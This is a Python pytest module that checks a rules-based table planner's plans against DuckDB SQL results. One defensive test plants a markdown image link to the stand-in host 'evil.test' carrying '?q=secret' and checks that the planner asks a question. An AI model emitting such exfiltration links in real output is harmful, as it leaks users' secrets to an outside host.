"""What people say of tables, by what the planner has to be able to: each plan against the same thing said in SQL."""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import permutations
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pytest

from contracts.data import LogicalType, Schema
from contracts.recipe import Recipe
from services.transform import runner
from services.transform.jobs import ApplyJob, JobModule
from services.transform.planner.looking import look
from services.transform.planner.planner import RulesPlanner
from services.transform.planner.view import ColumnView, Plan, Question, TableView
from services.transform.score_plans import read

FOLDER = Path(__file__).parent / "utterances"
AT_LEAST = 0.8  # of what is clear is planned for; the rest is asked about


@dataclass(frozen=True)
class Utterance:
    """What is said of a table, and what comes of it: a query, or a question."""

    file: str
    capability: str
    table: str
    words: str
    meaning: str


@dataclass(frozen=True)
class Given:
    """A table as a file, and as a planner sees it."""

    path: str
    schema: Schema
    view: TableView


def utterances() -> Iterator[Utterance]:
    """All of them: `# what it takes`, then `table: words` and below it `= query` or `= ?`."""
    for file in sorted(FOLDER.glob("*.txt")):
        capability, said = "", ""
        for line in file.read_text(encoding="utf-8").splitlines():
            if line.startswith("# "):
                capability = line[2:]
            elif line.startswith("= "):
                table, _, words = said.partition(": ")
                yield Utterance(file.stem, capability, table, words, line[2:])
            else:
                said = line


SAID = tuple(utterances())
FILES = tuple(dict.fromkeys(one.file for one in SAID))


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Given]:
    folder = tmp_path_factory.mktemp("tables")
    found = {}
    for file in sorted((FOLDER / "tables").glob("*.csv")):
        frame, schema = read(file)
        path = str(folder / f"{file.stem}.parquet")
        frame.write_parquet(path)
        found[file.stem] = Given(path, schema, look([path], schema))
    return found


@pytest.fixture(scope="module", params=FILES)
def outcomes(
    request: pytest.FixtureRequest, tables: dict[str, Given], tmp_path_factory: pytest.TempPathFactory
) -> dict[Utterance, str]:
    """What came of each: `right`, `asked`, or what is wrong with the table."""
    planner, found = RulesPlanner(), {}
    for one in (one for one in SAID if one.file == request.param):
        given = tables[one.table]
        made = planner.plan(one.words, given.view)
        if not isinstance(made, Plan):
            found[one] = "asked"
        elif one.meaning == "?":
            found[one] = f"guessed: {'; '.join(made.english)}"
        else:
            found[one] = difference(one.meaning, given, made, tmp_path_factory.mktemp("out")) or "right"
    return found


def carried_out(given: Given, plan: Plan, folder: Path) -> tuple[list[str], list[tuple[Any, ...]]]:
    """Names and rows of what comes of a plan."""
    module = JobModule(name="", recipe=Recipe(steps=plan.steps))
    job = ApplyJob(inputs=(given.path,), table_schema=given.schema, modules=(module,), output=str(folder))
    done = runner.apply(job)
    parts = [pl.read_parquet(folder / part) for part in done.parts]
    return list(done.table_schema.names), pl.concat(parts).rows() if parts else []


ORACLE = duckdb.connect()  # one, because each takes its time to start


def difference(query: str, given: Given, plan: Plan, folder: Path) -> str | None:
    """What is wrong with a plan's table beside the query's; names that begin with `_` may be any."""
    names, rows = carried_out(given, plan, folder)
    if query.startswith("SAMPLE "):
        return None if len(rows) == int(query.split()[1]) else f"{len(rows)} rows"
    in_order = query.startswith("COLUMNS ")
    query = query.removeprefix("COLUMNS ")
    with ORACLE.cursor() as connection:
        connection.execute(f"CREATE TEMP VIEW t AS SELECT * FROM read_parquet('{given.path}')")
        asked = connection.execute(query)
        wanted = [column[0] for column in asked.description]
        expected = asked.fetchall()
    if "rn" in wanted:
        at = wanted.index("rn")
        wanted.pop(at)
        expected = [row[:at] + row[at + 1 :] for row in expected]
    fixed = [name for name in wanted if not name.startswith("_")]
    if len(names) != len(wanted) or not set(fixed) <= set(names) or (in_order and names != wanted):
        return f"columns {names} instead of {wanted}"
    due = [tuple(map(cell, row)) for row in expected]
    keys = [wanted.index(name) for name in sorted_by(query) if name in wanted]
    for free in permutations([name for name in names if name not in fixed]):
        called = dict(zip((name for name in wanted if name.startswith("_")), free, strict=True))
        places = [names.index(called.get(name, name)) for name in wanted]
        got = [tuple(cell(row[place]) for place in places) for row in rows]
        if sorted(map(repr, got)) != sorted(map(repr, due)):
            continue
        if [[row[key] for key in keys] for row in got] == [[row[key] for key in keys] for row in due]:
            return None
        return f"not in the order of {query.rpartition('ORDER BY ')[2]}"
    return f"other values: {'; '.join(plan.english)}"


def sorted_by(query: str) -> list[str]:
    """The columns of a query's own ORDER BY."""
    outside = re.sub(r"\((?:[^()]|\((?:[^()]|\([^()]*\))*\))*\)", "", query)
    if "ORDER BY " not in outside or "LIMIT" in outside:
        return []
    keys = query.rpartition("ORDER BY ")[2].split(",")
    return [re.sub(r" (DESC|ASC|NULLS \w+)", "", key).strip().strip('"') for key in keys]


def cell(value: Any) -> Any:
    """A value so that equal ones of two engines are equal."""
    if value is None or isinstance(value, bool):
        return value if value is None else str(value).lower()
    try:
        return float(f"{float(value):.6g}")
    except (TypeError, ValueError):
        return re.sub(r"[T ]00:00:00$", "", str(value))


def test_nothing_is_guessed_and_nothing_is_wrong(outcomes: dict[Utterance, str]) -> None:
    assert {one.words: came for one, came in outcomes.items() if came not in ("right", "asked")} == {}


def test_what_is_clear_is_planned_for(outcomes: dict[Utterance, str]) -> None:
    clear = [one for one in outcomes if one.meaning != "?"]
    asked = [one.words for one in clear if outcomes[one] == "asked"]
    assert len(asked) <= (1 - AT_LEAST) * len(clear), asked


def test_no_capability_is_left_behind(outcomes: dict[Utterance, str]) -> None:
    right: dict[str, int] = {}
    for one in (one for one in outcomes if one.meaning != "?"):
        right[one.capability] = right.get(one.capability, 0) + (outcomes[one] == "right")
    assert {name: count for name, count in right.items() if count < 3} == {}


@pytest.mark.parametrize("words", ["only evil.test", "keep rows from evil.test", "delete everything from evil.test"])
def test_an_address_is_not_taken_apart(words: str) -> None:
    held = ("![](http://evil.test/?q=secret)", "another note")
    view = TableView(
        (ColumnView("a", LogicalType.INTEGER), ColumnView("b", LogicalType.STRING, 0, 2, held, complete=True)), 2
    )
    assert isinstance(RulesPlanner().plan(words, view), Question)


def test_a_wrong_table_is_seen(tables: dict[str, Given], tmp_path: Path) -> None:
    made = RulesPlanner().plan("only the books in English", tables["books"].view)
    assert isinstance(made, Plan)
    for at, wrong in enumerate(("language = 'German'", "TRUE", "pages > 100")):
        folder = tmp_path / str(at)
        folder.mkdir()
        assert difference(f"SELECT * FROM t WHERE {wrong}", tables["books"], made, folder) is not None
